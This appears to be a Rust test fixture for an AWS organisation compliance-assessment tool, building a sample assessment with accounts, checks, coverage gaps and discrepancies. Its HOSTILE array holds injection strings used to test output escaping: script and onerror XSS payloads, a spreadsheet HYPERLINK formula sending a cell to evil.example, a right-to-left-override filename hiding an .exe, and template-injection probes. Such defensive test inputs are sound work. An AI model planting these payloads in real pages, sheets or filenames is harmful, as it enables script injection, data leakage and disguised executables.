//! A realistically shaped assessment for the tests of this room: gaps of every kind, failures, hostile names.

mod verdicts;

use std::collections::BTreeMap;

use jiff::{Timestamp, ToSpan};
use serde_json::json;

use super::{Provenance, SealedArchive};
use crate::model::{
    AccountId, Assessment, AssessmentHeader, Collector, Coverage, CoverageState, Discrepancy, Mode, Organization,
    Period, PlannedTask, Scope, ScopeReason, Sha256Digest, TaskId,
};

/// Text that tries to become markup, a script, a formula, a table cell, a turned-around name.
pub const HOSTILE: [&str; 8] = [
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "invoice-\u{202e}fdp.exe\u{202c}",
    "tab\there\u{0}nul\u{1b}[31mred",
    "| cell | [link](javascript:alert(3)) `code` <b>bold</b>",
    "line one\r\n# heading\n- [x] done @everyone",
    "{{ 7 * 7 }}{% raw %}${7*7}",
];

const ACCOUNTS: [(&str, &str, &str, &str); 15] = [
    ("111111111111", "management", "ACTIVE", "r-ex01"),
    ("222222222222", "audit", "ACTIVE", "ou-sec"),
    ("222222222233", "log-archive", "ACTIVE", "ou-sec"),
    ("310000000001", "payments-prod", "ACTIVE", "ou-prod"),
    ("310000000002", "payments-dr", "ACTIVE", "ou-prod"),
    ("310000000003", "customer-portal-prod", "ACTIVE", "ou-prod"),
    ("310000000004", "core-ledger-prod", "ACTIVE", "ou-prod"),
    ("320000000001", "payments-dev", "ACTIVE", "ou-dev"),
    ("320000000002", "customer-portal-dev", "ACTIVE", "ou-dev"),
    ("320000000003", "data-science", "ACTIVE", "ou-dev"),
    ("330000000001", "acquired-company", "ACTIVE", "ou-new"),
    ("330000000002", "acquired-company-web", "ACTIVE", "ou-new"),
    ("340000000001", "hackathon-2025", "SUSPENDED", "ou-sandbox"),
    ("340000000002", "sandbox", "ACTIVE", "ou-sandbox"),
    ("340000000003", HOSTILE[1], "ACTIVE", "ou-sandbox"),
];

const REGIONS: [&str; 4] = ["ap-northeast-1", "eu-central-1", "eu-west-1", "us-east-1"];

const CHECKS: [(&str, &str, &str, &str, &str); 9] = [
    (
        "config/IAM_USER_MFA_ENABLED",
        "IAM users with a console password have MFA",
        "high",
        "AWS::IAM::User",
        "Register an MFA device for the user, or remove the console password.",
    ),
    (
        "config/MULTI_REGION_CLOUD_TRAIL_ENABLED",
        "A multi-Region CloudTrail trail records",
        "critical",
        "AWS::::Account",
        "Create a multi-Region trail, best an organisation trail.",
    ),
    (
        "config/S3_BUCKET_PUBLIC_READ_PROHIBITED",
        "No bucket can be read by the public",
        "critical",
        "AWS::S3::Bucket",
        "Switch Block Public Access on and remove the public policy or ACL.",
    ),
    (
        "config/S3_BUCKET_PUBLIC_WRITE_PROHIBITED",
        "No bucket can be written by the public",
        "critical",
        "AWS::S3::Bucket",
        "Switch Block Public Access on and remove the public policy or ACL.",
    ),
    (
        "guard/s3-public-access",
        "Changes to S3 public access are denied by SCP",
        "high",
        "AWS::::Account",
        "Attach the guardrail policy to the organizational unit.",
    ),
    (
        "securityhub/EC2.2",
        "Default security groups allow no traffic",
        "medium",
        "AWS::EC2::SecurityGroup",
        "Remove all rules from the VPC's default security group.",
    ),
    ("securityhub/KMS.4", "Customer-managed KMS keys rotate", "medium", "AWS::KMS::Key", "Enable automatic rotation."),
    (
        "securityhub/S3.1",
        "Block Public Access is on for the account",
        "high",
        "AWS::::Account",
        "Switch all four settings on at the account.",
    ),
    (
        "state/config-recorder",
        "AWS Config records all resource types",
        "high",
        "AWS::::Account",
        "Create the recorder, or start it, for all resource types.",
    ),
];

fn at(minutes: i64) -> Timestamp {
    "2026-11-22T22:00:00Z".parse::<Timestamp>().unwrap().checked_add(minutes.minutes()).unwrap()
}

/// The seal of the sample's newest run.
pub fn seal() -> Sha256Digest {
    Sha256Digest::of("the newest run")
}

/// How the sample can be verified.
pub fn provenance() -> Provenance {
    Provenance {
        tool: "orgproof 0.1.0".to_owned(),
        archives: vec![SealedArchive {
            name: Some("run-000007-20261122T220000Z.zip".to_owned()),
            seal: seal(),
            closed: Some(at(41)),
        }],
        key: Some("SHA256:q1kWqQd6E1bFq0vX2bJ3o0mT6l3nJY5k7cQx9u1QZfM".to_owned()),
        identity: Some("evidence@example.org".to_owned()),
    }
}

/// The sample.
pub fn assessment() -> Assessment {
    let coverage = coverage();
    let results = verdicts::results(&coverage);
    let checks = verdicts::checks(&results);
    let findings = verdicts::findings(&checks);
    Assessment {
        header: header(),
        organization: organization(),
        out_of_scope: out_of_scope(),
        discrepancies: discrepancies(),
        exceptions: Vec::new(),
        attestations: Vec::new(),
        coverage,
        findings,
        checks,
        results,
    }
}

fn header() -> AssessmentHeader {
    AssessmentHeader {
        semantics: 1,
        period: Period {
            label: "2026Q4".to_owned(),
            from: "2026-10-01T00:00:00Z".parse().unwrap(),
            to: "2027-01-01T00:00:00Z".parse().unwrap(),
        },
        catalog: Sha256Digest::of("catalogue"),
        evidence: vec![Sha256Digest::of("an older run"), seal()],
        run: "orgproof-20261122T220000Z".to_owned(),
        closed: at(41),
        frameworks: BTreeMap::from([
            ("cis-aws-3.0".to_owned(), "CIS AWS Foundations Benchmark 3.0".to_owned()),
            ("s3-data-leak".to_owned(), "S3 data-leak policy 1".to_owned()),
        ]),
        overridden: vec!["endpoint of config: http://127.0.0.1:4566".to_owned()],
    }
}

fn organization() -> Organization {
    let accounts: Vec<_> = ACCOUNTS
        .iter()
        .map(|(id, name, state, parent)| {
            json!({ "id": id, "name": name, "state": state, "parent": parent, "tags": {}, "evidence": null })
        })
        .collect();
    let unit = |id: &str, name: &str, parent: &str| json!({ "id": id, "name": name, "parent": parent });
    serde_json::from_value(json!({
        "id": "o-exampleorg1", "management_account": "111111111111", "feature_set": "ALL",
        "roots": [{ "id": "r-ex01", "policy_types": [] }],
        "units": [
            unit("ou-dev", "Development", "ou-work"), unit("ou-new", "Acquired", "r-ex01"),
            unit("ou-prod", "Production", "ou-work"), unit("ou-sandbox", "Sandbox", "r-ex01"),
            unit("ou-sec", "Security", "r-ex01"), unit("ou-work", "Workloads", "r-ex01"),
        ],
        "accounts": accounts, "policies": [], "services": [],
    }))
    .unwrap()
}

fn out_of_scope() -> BTreeMap<AccountId, ScopeReason> {
    BTreeMap::from([
        ("340000000001".parse().unwrap(), ScopeReason::AccountState { state: "SUSPENDED".to_owned() }),
        (
            "340000000002".parse().unwrap(),
            ScopeReason::Excluded {
                rule: "ou = ou-sandbox".to_owned(),
                by: "security@example.com".to_owned(),
                why: "Throw-away experiments without data; emptied every Friday.".to_owned(),
            },
        ),
    ])
}

/// How a target's task ended in the sample's story.
fn ending(account: &str, region: &str, collector: Collector) -> (CoverageState, Option<&'static str>) {
    use CoverageState as S;
    let securityhub = collector.as_str().starts_with("securityhub");
    match (account, region) {
        ("340000000001" | "340000000002", _) => (S::OutOfScope, None),
        ("330000000001", _) => (
            S::Denied,
            Some(
                "AccessDenied: User: arn:aws:sts::222222222222:assumed-role/OrgProofCentral/run is not authorized to perform: sts:AssumeRole",
            ),
        ),
        ("330000000002", _) => (
            S::Denied,
            Some("AccessDeniedException: ... is not authorized with an explicit deny in a service control policy"),
        ),
        ("320000000003", "ap-northeast-1") => (S::RegionDisabled, Some("OptInRequired")),
        ("320000000002", "ap-northeast-1") => (S::RegionDisabled, None),
        ("310000000002", "eu-west-1") if !securityhub => (S::NotEnabled, Some("the configuration recorder is stopped")),
        ("320000000001", "us-east-1") if securityhub => {
            (S::NotEnabled, Some("InvalidAccessException: account is not subscribed to AWS Security Hub"))
        }
        ("310000000003", "us-east-1") if securityhub => {
            (S::Throttled, Some("TooManyRequestsException after 12 attempts"))
        }
        ("310000000004", "eu-central-1") if collector == Collector::ConfigCompliance => {
            (S::NotRecorded, Some("AWS::Config::ResourceCompliance is not recorded"))
        }
        ("320000000002", "eu-central-1") if collector == Collector::ConfigCompliance => {
            (S::Stale, Some("aggregator source OUTDATED"))
        }
        ("340000000003", "us-east-1") => (S::Failed, Some(HOSTILE[0])),
        ("340000000003", "eu-west-1") => (S::TimedOut, Some("transport: no response within 30 s")),
        ("340000000003", "eu-central-1") => (S::Partial, Some("InvalidNextTokenException on page 4")),
        ("340000000003", "ap-northeast-1") => (S::NotRun, None),
        ("222222222233", "eu-west-1") if collector == Collector::SecurityhubFindings => (S::Withheld, None),
        _ if collector == Collector::SecurityhubFindings && region == "ap-northeast-1" => (S::Empty, None),
        _ => (S::Collected, None),
    }
}

fn coverage() -> Vec<Coverage> {
    let mut lines = Vec::new();
    for collector in Collector::ALL {
        let places: Vec<(&str, &str)> = match collector.scope() {
            Scope::Run => vec![("222222222222", "us-east-1")],
            Scope::Account => ACCOUNTS.iter().map(|a| (a.0, "us-east-1")).collect(),
            Scope::Target => ACCOUNTS.iter().flat_map(|a| REGIONS.map(|r| (a.0, r))).collect(),
        };
        for (account, region) in places {
            let task = TaskId { account: account.parse().unwrap(), region: region.parse().unwrap(), collector };
            let planned = PlannedTask {
                account: task.account.clone(),
                region: task.region.clone(),
                collector,
                mode: Mode::FanOut,
                region_named: account == "320000000003",
                out_of_scope: None,
                task,
            };
            let (state, error) = ending(account, region, collector);
            let since = (state == CoverageState::NotEnabled).then(|| at(-60 * 24 * 9));
            lines.push(Coverage::close(&planned, state, error.map(str::to_owned), since, 3));
        }
    }
    lines.sort_by(|a, b| a.task.cmp(&b.task));
    lines
}

fn discrepancies() -> Vec<Discrepancy> {
    let d = |kind: &str, subject: &str, what: &str| Discrepancy {
        kind: kind.to_owned(),
        subject: subject.to_owned(),
        what: what.to_owned(),
    };
    vec![
        d(
            "aggregate-cross-check",
            "310000000004 eu-west-1 s3-public-read",
            "The aggregator counts 2 non-compliant resources, the account itself 3.",
        ),
        d(
            "denominators",
            "330000000001",
            "Organizations lists the account; the Config aggregator has no source for it.",
        ),
        d("sources-disagree", HOSTILE[0], "Config says COMPLIANT, Security Hub says FAILED."),
    ]
}
